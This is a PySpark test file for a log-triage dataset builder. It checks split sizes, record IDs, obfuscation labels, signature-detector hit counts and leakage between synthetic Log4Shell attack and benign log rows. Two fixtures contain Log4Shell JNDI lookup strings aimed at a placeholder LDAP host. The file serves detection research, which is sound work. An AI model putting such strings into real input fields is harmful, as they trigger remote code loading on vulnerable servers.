"""Corpus counts, splits, records, ids and checks."""

from pyspark.sql import functions as F

from logtriage.operators import corpus as C
from logtriage.operators import evaluation as E
from logtriage.plans import templates as T
from logtriage.schema import DATASET_COLUMNS


def hosts(spark, names=T.ATTACK_HOSTS):
    return spark.createDataFrame(list(enumerate(names)), "host_no int, host string")


def test_published_sizes(spark):
    synthetic = C.replicate(C.expand_payloads(hosts(spark), T.MALICIOUS), 12)
    evasion = C.replicate(C.expand_payloads(hosts(spark), T.EVASION_TRAIN + T.EVASION_TEST), 12)
    held_out = C.replicate(C.expand_payloads(hosts(spark), T.EVASION_TEST), 12)
    assert (synthetic.count(), evasion.count(), held_out.count()) == (1224, 1368, 792)
    ood = C.ood_rows(hosts(spark), T.OOD_MALICIOUS, T.OOD_BENIGN)
    assert {r.label: r["rows"] for r in C.class_balance(ood).collect()} == {0: 144, 1: 144}
    ids = sorted(r.id for r in ood.select("id").collect())
    assert (ids[0], ids[-1], len(set(ids))) == ("OOD-900001", "OOD-900288", 288)


def test_signature_results_on_the_assembled_splits(spark):
    """The published confusion counts of the signature detector follow from the templates."""
    from logtriage.operators.detect import signature

    def hits(df):
        return signature(df).agg(F.sum("sig_label"), F.count("*")).first()

    rows = C.contextualize(C.replicate(C.expand_payloads(hosts(spark), T.EVASION_TEST), 12))
    assert tuple(hits(rows)) == (576, 792)
    ood = C.ood_rows(hosts(spark), T.OOD_MALICIOUS, T.OOD_BENIGN)
    assert tuple(hits(ood.filter("label = 1"))) == (24, 144)
    assert tuple(hits(ood.filter("label = 0"))) == (72, 144)


def test_splits_and_records(spark):
    rows = C.assign_split(C.contextualize(C.replicate(C.expand_payloads(hosts(spark), T.MALICIOUS), 2)))
    rows = rows.withColumns({"source": F.lit("synthetic"), "label": F.lit(1)})
    order = [F.col("host_no"), F.col("tpl_no"), F.col("sample_no")]
    records = C.to_records(C.assign_ids(rows, order), "2026-01-01")
    assert records.columns == DATASET_COLUMNS
    found = records.orderBy("id").collect()
    assert [r.id for r in found[:2]] == ["LS-000001", "LS-000002"]
    assert found[0].field == "minimal_query" and found[1].field == "uri_param"
    kinds = {r.obfuscation_type for r in found}
    assert "double_url_encoded" in kinds and "plain" in kinds and "double_url_encoding" not in kinds
    splits = {r.split for r in found}
    assert splits == {"train", "val", "test", "unseen_obfuscation_test"}
    train = {r.obfuscation_type for r in found if r.split == "train"}
    assert not train & {"nested_lookup", "env_fallback", "fragmented_tokens", "double_url_encoded", "unicode_escape"}
    stats = {(r.statistic, r.value): r["rows"] for r in E.dataset_stats(records).collect()}
    assert stats[("total_rows", "")] == 204 and stats[("by_label", "1")] == 204


def test_override_and_benign_family(spark):
    rows = [("1", "s", "${jndi:ldap://h/a}", 1, "f", "x", "train", "kept"), ("2", "s", "GET /", 0, "docs", "x", "train", None)]
    df = spark.createDataFrame(rows, "id string, source string, raw_log string, label int, family string, field string, split string, override string")
    got = {r.id: (r.obfuscation_type, r.attack_family, r.risk_level) for r in C.to_records(df, "d").collect()}
    assert got == {"1": ("kept", "log4shell", "critical"), "2": ("docs", "benign", "low")}


def test_quotas_and_round_robin(spark):
    pool = C.expand_hard_negatives(hosts(spark, T.SAFE_HOSTS)).withColumn("pool_no", F.col("host_no") * 12 + F.col("tpl_no"))
    drawn = C.sample_quota(pool, T.HARD_NEGATIVE_QUOTAS)
    assert {r.split: r["count"] for r in drawn.groupBy("split").count().collect()} == dict(T.HARD_NEGATIVE_QUOTAS)
    fixed = C.to_records(C.hard_negative_set(pool), "d").orderBy("id").collect()
    assert len(fixed) == 180 and len({r.raw_log for r in fixed}) == 180
    assert fixed[0].raw_log.endswith("trace_id=standalone-hardneg-0001") and fixed[0].id == "HN-000001"


def test_leakage(spark):
    rows = [("train", "a", "GET /"), ("test", "a", "${jndi:ldap://h}"), ("train", "b", "${jndi:ldap://h}"), ("test", "c", "x")]
    df = spark.createDataFrame(rows, "split string, obfuscation_type string, raw_log string")
    got = {tuple(r) for r in C.leakage_checked(df, "train", ["test"]).collect()}
    assert got == {("stored", "a"), ("recomputed", "plain"), ("recomputed", "none")}
    assert C.leakage(df.filter("split = 'train'"), df.filter("split = 'test'")).collect()[0][0] == "a"
